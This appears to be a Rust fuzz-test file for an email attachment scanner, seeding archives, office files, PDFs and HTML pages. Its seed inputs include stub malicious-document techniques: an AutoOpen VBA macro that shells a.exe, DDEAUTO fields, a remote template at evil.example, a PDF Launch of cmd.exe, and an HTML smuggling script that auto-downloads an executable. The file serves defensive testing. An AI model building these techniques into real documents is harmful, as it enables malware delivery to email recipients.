//! Fuzz targets: archives and disk images, office documents, PDF files, pages and scripts. A few
//! thousand inputs in `make test`, ten minutes in `make soak`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that meets what it did not expect should stop there"
)]

#[path = "../../../../tests/fuzz/harness.rs"]
mod harness;
#[path = "../attacks/make.rs"]
mod make;
#[path = "../attacks/samples.rs"]
mod samples;

use std::time::Duration;

use harness::{Target, fuzz, trait_of};
use posthouse_attachment::{
    AttachmentLimits, Attachments, DEFAULT_BLOCKED_TYPES, Extra, blocked_types, examine,
};
use posthouse_mime::{Body, Part, Reading};
use posthouse_types::Language;
use samples::sample;
use zip::CompressionMethod;

/// Longest time for one input, unoptimised: work ends at 0.8 seconds of an optimised build.
const TIME_MAX: Duration = Duration::from_secs(20);

/// Half a page of text, that packs.
const TEXT: &[u8] = b"The meeting is at ten. The meeting is at ten, and the coffee is at nine.\n";

/// A message that carries the input, examined.
fn of(name: &str, octets: &[u8]) -> Attachments {
    let body = Body { bytes: octets.to_vec(), text: None };
    let part = Part {
        media_type: "application/octet-stream".to_owned(),
        names: vec![name.to_owned()],
        is_attachment: true,
        bodies: vec![body],
        ..Part::default()
    };
    let reading = Reading { parts: vec![part], is_complete: true, ..Reading::default() };
    examine(&reading, &AttachmentLimits::default(), &Extra::default())
}

/// What holds of every examination; gives its trait.
fn look_at(name: &str, octets: &[u8]) -> u64 {
    let limits = AttachmentLimits::default();
    let found = of(name, octets);
    assert!(found.items.len() <= limits.members_max + 1);
    assert!(found.findings.len() <= limits.findings_max);
    for finding in &found.findings {
        assert!(finding.weight().is_finite());
        assert!(!finding.sentence(Language::English).contains(['\r', '\n', '\0']));
    }
    assert!(found.items.iter().all(|item| item.path.len() <= limits.depth_max + 1));
    let _ = blocked_types(&found, &DEFAULT_BLOCKED_TYPES);
    let kinds: Vec<_> = found.findings.iter().map(|finding| finding.kind.id).collect();
    let items: Vec<_> = found
        .items
        .iter()
        .take(8)
        .map(|item| (item.kind.name, item.path.len(), item.sha256.is_some(), item.is_encrypted))
        .collect();
    trait_of((kinds, items, found.is_complete))
}

fn fuzz_files(name: &str, file: &str, seeds: Vec<Vec<u8>>) {
    fuzz(Target { name, seeds, time_max: TIME_MAX, run: &|octets| look_at(file, &mended(octets)) });
}

/// A 7z archive whose two checksums fit again: what comes behind them is looked at, too.
fn mended(octets: &[u8]) -> Vec<u8> {
    let sum = |octets: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(octets);
        crc.sum().to_le_bytes()
    };
    let mut out = octets.to_vec();
    if out.starts_with(b"7z\xbc\xaf\x27\x1c") && out.len() > 32 {
        let number = |at: usize| u64::from_le_bytes(octets[at..at + 8].try_into().unwrap());
        let start = usize::try_from(number(12)).unwrap_or(usize::MAX).saturating_add(32);
        let end = start.saturating_add(usize::try_from(number(20)).unwrap_or(usize::MAX));
        if let Some(header) = octets.get(start..end) {
            out[28..32].copy_from_slice(&sum(header));
        }
        let head = sum(&out[12..32]);
        out[8..12].copy_from_slice(&head);
    }
    out
}

#[test]
fn arc_02_fuzz_archives() {
    let inner = make::zip(&[("a.txt", TEXT), ("b.bin", &[7; 300])]);
    let mut seeds = vec![
        make::tar(&[("a.zip", &inner), ("b", b"x")]),
        make::gzip(&inner),
        make::bzip2(TEXT),
        make::zstd(TEXT),
        make::cabinet("a.txt", TEXT),
        make::rar("a.exe", TEXT),
        make::rar_4("a.exe", TEXT),
        make::iso("A.EXE;1", &make::pe(0x0102, 2, b"")),
        make::locked_zip("x", "a.txt", TEXT),
        make::octets(make::SEVEN_ZIP),
        make::octets(make::XZ),
        [&make::gzip(TEXT)[..], &make::gzip(TEXT)].concat(),
        [&inner[..], &make::zip(&[("c.txt", TEXT)])].concat(),
    ];
    for method in [
        CompressionMethod::Stored,
        CompressionMethod::Bzip2,
        CompressionMethod::Zstd,
        CompressionMethod::Deflated,
    ] {
        seeds.push(make::zip_by(method, &[("x.zip", &inner), ("y.txt", TEXT)]));
    }
    seeds.extend(["z", "deb", "lib", "xz", "arj", "ace", "img", "jar"].map(sample));
    fuzz_files("attachment-archives", "a.bin", seeds);
}

#[test]
fn arc_02_fuzz_office_documents() {
    let dir = make::vba(b"\x31\0\x04\0\0\0\x08\0\0\0");
    let source = b"Attribute VB_Name = \"a\"\r\nSub AutoOpen()\r\nShell \"a.exe\"\r\nEnd Sub\r\n";
    let module = [b"compiled".as_slice(), &make::vba(source)].concat();
    let sheet = b"\x09\x08\x02\0\0\0\x85\0\x0a\0\0\0\0\0\x02\x01\x02\0ab\x2f\0\x02\0\0\0";
    let word = make::compound(
        None,
        &[
            ("/WordDocument", b"\xec\xa5 DDEAUTO cmd x"),
            ("/Macros/VBA/_VBA_PROJECT", b"x"),
            ("/Macros/VBA/dir", &dir),
            ("/Macros/VBA/Module1", &module),
        ],
    );
    let relations = b"<Relationships><Relationship Id=\"a\" TargetMode=\"External\" \
        Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/a.dotm\"/></Relationships>";
    let document = b"<w:document><w:instrText> DDEAUTO c:\\a.exe </w:instrText></w:document>";
    let docm = make::zip_by(
        CompressionMethod::Stored,
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", document),
            ("word/_rels/settings.xml.rels", relations),
            ("word/vbaProject.bin", &word),
        ],
    );
    let seeds = vec![
        word,
        docm,
        make::compound(None, &[("/Workbook", sheet)]),
        make::compound(None, &[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"x")]),
        make::compound(None, &[("/\u{1}Ole10Native", b"\x09\0\0\0\x02\0a\0b\0xy\0\0\0\0")]),
        br"{\rtf1{\object\objautlink{\*\objdata 0105000002{\*\x}00000b}}\bin5 abcde}".to_vec(),
        br"{\rtf1{\field{\*\fldinst DDEAUTO a b}}{\*\template https://evil.example/a}}".to_vec(),
        sample("msi"),
        sample("ppa"),
        sample("ppam"),
    ];
    fuzz_files("attachment-office", "a.doc", seeds);
}

#[test]
fn arc_02_fuzz_pdf_files() {
    let objects = {
        let mut encoder =
            flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut encoder, b"1 0 <</S/JavaScript/JS(app.alert)>>").unwrap();
        encoder.finish().unwrap()
    };
    let stream = |dictionary: &str, data: &[u8]| {
        let head = format!("%PDF-1.5\n1 0 obj<<{dictionary}/Length {}>>stream\n", data.len());
        [head.as_bytes(), data, b"\nendstream endobj\n%%EOF"].concat()
    };
    let seeds = vec![
        stream("/Filter/FlateDecode/Type/ObjStm/N 1/First 4", &objects),
        stream("/Type/EmbeddedFile", &make::pe(0x0102, 2, b"")),
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/#4aavaScript/JS(x)>>>>endobj".to_vec(),
        b"%PDF-1.4\n2 0 obj<</S/Launch/F(cmd.exe)>>endobj 3 0 obj<</AA<</O 2 0 R>>>>endobj"
            .to_vec(),
        b"%PDF-1.4\n4 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/)>>>>endobj"
            .to_vec(),
    ];
    fuzz_files("attachment-pdf", "a.pdf", seeds);
}

#[test]
fn arc_02_fuzz_pages_and_scripts() {
    let mut seeds: Vec<Vec<u8>> =
        ["hta", "wsf", "sct", "vbs", "vbe", "bat", "scf", "lnk", "reg", "jnlp"].map(sample).into();
    seeds.push(
        b"<html><script>var b=new Blob([atob('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAA')\
        ]);a.href=URL.createObjectURL(b);a.download='a.exe';a.click()</script></html>"
            .to_vec(),
    );
    seeds.push(b"begin 644 a.exe\n#9F]O\n`\nend\n".to_vec());
    seeds.push(b"[InternetShortcut]\nURL=file://evil.example/a.exe\n".to_vec());
    seeds.push(b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>".to_vec());
    fuzz_files("attachment-pages", "a.html", seeds);
}
